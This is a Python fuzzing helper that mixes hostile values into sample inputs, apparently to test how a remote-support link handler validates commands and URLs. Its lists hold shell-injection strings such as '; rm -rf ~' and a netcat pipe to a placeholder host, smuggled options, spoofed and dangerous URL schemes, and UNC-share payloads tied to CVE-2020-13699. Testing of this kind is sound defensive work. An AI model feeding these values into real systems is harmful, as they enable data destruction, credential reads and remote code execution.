"""Values that somebody might send to break out of a command or a link, drawn from a seed; nothing is judged here."""

from __future__ import annotations

from random import Random

_SHELL = (
    "; rm -rf ~",
    "&& calc.exe",
    "| nc 192.0.2.1 9",
    "$(id)",
    "`id`",
    "> /tmp/x",
    "< /etc/passwd",
    "%COMSPEC%",
    "^&calc",
    "'",
    '"',
    '" "',
    "\\",
    "\\\\",
    "!!",
    "*",
    "?",
    "~",
    "#",
    "{id}",
    "{program}",
    "{0}",
    "%s",
    "%n",
)
_OPTIONS = (
    "--play",
    "-P",
    "--Password=x",
    "-i",
    "--mode",
    "/v:evil.example",
    "/prompt",
    "--with-password",
    "-",
    "--",
    "--password hunter2",
    "/c calc.exe",
    "-oProxyCommand=x",
    "--control C:\\x.tvc",
    "\u2013play",
    "\u2212i",
)
_LINKS = (
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:text/html,x",
    "ms-msdt:/id",
    "search-ms:query=x",
    "://",
    "rustdesk://password/x",
    "rustdesk://config/x",
    "anydesk://register-license",
    "smb://evil.example/s",
    "//x",
    "https://evil.example/",
    "https://evil.example@get.teamviewer.com/",
    "https://get.teamviewer.com@evil.example/",
    "https://get.teamviewer.com:8443/",
    "https://get.teamviewer.com.evil.example/",
    "http://get.teamviewer.com/",
    "https://get.teamviewer.com\\@evil.example/",
    "https://assist.zoho.com%2eevil.example/",
    "HTTPS://x",
    "https:x",
    "https://g\u0435t.teamviewer.com/",
    "https://xn--gt-7kc.evil.example/",
    "https://[::1]/",
    "https://127.0.0.1/",
    "https:///get.teamviewer.com/",
    "https://evilteamviewer.com/",
    "https://teamviewer.com./",
    "https://.teamviewer.com/",
)
_UNSEEN = (
    "\0",
    "\n",
    "\r\n",
    "\t",
    "\x1b[2J",
    "\x7f",
    "\u200b",
    "\u200f",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\u2028",
    "\xad",
    "\ud800",
    "\U000e0041",
    "\u00a0",
    "\u202f",
    "\u3000",
    "%00",
    "%0a",
    "%0d%0aHost: x",
    "%2f..%2f",
    "%",
    "%zz",
)
# What CVE-2020-13699 was used with, and its kind.
_SHARES = (
    "teamviewer10: --play \\\\evil.example\\share\\x.tvs",
    "\\\\evil.example\\share",
    "//evil.example/share/x.tvs",
    '" --play \\\\evil.example\\s\\x.tvs',
    "602724282 --play \\\\192.0.2.1\\s\\x",
    "tvjoinv8:?--play x",
    "..\\..\\x",
)
PIECES = _SHELL + _OPTIONS + _LINKS + _UNSEEN + _SHARES

_ZEROS = "\u0660\u06f0\u0966\u09e6\uff10\U0001d7ce\u0e50\u07c0"
_HARMLESS = " \u00a0\u202f.-:"


def hostile(chance: Random, example: str) -> str:
    """One value. Some are only oddly written, so that what is accepted is looked at, too."""
    return chance.choice(_KINDS)(chance, example)


def _mixed(chance: Random, example: str) -> str:
    at = chance.randrange(len(example) + 1)
    return f"{example[:at]}{chance.choice(PIECES)}{example[at:]}"


def _before(chance: Random, example: str) -> str:
    return f"{chance.choice(PIECES)}{chance.choice(('', ' '))}{example}"


def _after(chance: Random, example: str) -> str:
    return f"{example}{chance.choice(('', ' '))}{chance.choice(PIECES)}"


def _pieces(chance: Random, example: str) -> str:
    return "".join(chance.choice((*PIECES, example)) for _ in range(chance.randrange(5)))


def _any_signs(chance: Random, example: str) -> str:
    return "".join(chr(chance.randrange(0x11000)) for _ in range(chance.randrange(1, 20)))


def _plain_signs(chance: Random, example: str) -> str:
    return "".join(chr(chance.randrange(0x20, 0x7F)) for _ in range(chance.randrange(1, 20)))


def _other_digits(chance: Random, example: str) -> str:
    zero = ord(chance.choice(_ZEROS))
    return "".join(chr(zero + int(each)) if each in "0123456789" else each for each in example)


def _oddly_written(chance: Random, example: str) -> str:
    return "".join(f"{each}{chance.choice(_HARMLESS) if chance.random() < 0.2 else ''}" for each in example)


def _turned(chance: Random, example: str) -> str:
    return "".join(
        chance.choice((each, each, each.upper(), each.lower(), chance.choice("09aZ.-@:/?&=#")))
        for each in example
    )


def _shorter_or_longer(chance: Random, example: str) -> str:
    return (
        example[: chance.randrange(len(example) + 1)]
        if chance.random() < 0.5
        else example + example[-1:] * chance.randrange(9)
    )


def _huge(chance: Random, example: str) -> str:
    return chance.choice((example, "9", "A", "-", "\0", "https://")) * chance.randrange(50, 3000)


def _unchanged(chance: Random, example: str) -> str:
    return example


_KINDS = (
    _mixed,
    _mixed,
    _before,
    _after,
    _pieces,
    _any_signs,
    _plain_signs,
    _other_digits,
    _oddly_written,
    _turned,
    _turned,
    _shorter_or_longer,
    _unchanged,
    *([_mixed, _before, _after] * 4),
    _huge,
)
